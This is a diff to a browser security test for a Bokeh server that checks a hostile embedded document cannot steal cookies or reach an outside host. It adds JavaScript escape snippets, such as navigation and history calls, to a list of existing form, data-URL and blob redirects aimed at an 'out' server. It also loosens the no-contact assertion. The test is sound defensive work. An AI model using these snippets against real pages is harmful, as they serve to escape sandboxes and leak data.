@@ -36,9 +36,12 @@ WAYS_OUT = {
         link.href = `${server}/bokeh/userinfo/`; document.body.append(link); link.click()""",
     "form": """const form = document.createElement("form"); form.action = out
         document.body.append(form); form.submit()""",
+    "navigation": "navigation.navigate(out)",
     "data": "location.href = `data:text/html,<img src='${out}'>`",
     "blob": """location.href = URL.createObjectURL(
         new Blob([`<img src='${out}'>`], {type: "text/html"}))""",
+    "back": "history.back()",
+    "further back": "history.go(-1)",
     "another document": "location.href = `${server}/bokeh/doc/${other}/show`",
     "the list": "location.href = `${server}/`",
 }
@@ -118,12 +121,12 @@ def test_what_a_hostile_document_gets_at(
     frame = attack(page)
     wait_until(lambda: frame.evaluate("window.found != null"), seconds=60)
     found: dict[str, str] = frame.evaluate("found")
-    assert len(found) > 55
+    assert len(found) > 105
     assert {name: value for name, value in found.items() if value.startswith("got")} == {}
     assert found["cookie"].startswith("refused")
     assert found["worker"] == "refused"
     page.wait_for_timeout(500)
-    assert outside.heard == []
+    assert set(outside.heard) <= {""}  # Chromium may connect before it looks at the policy
     assert len(logged_in.pages) == 1
     assert page.url == f"{people_api.url}/bokeh/doc/{docid}/show"
     assert page.evaluate("document.cookie") == "login=secret"
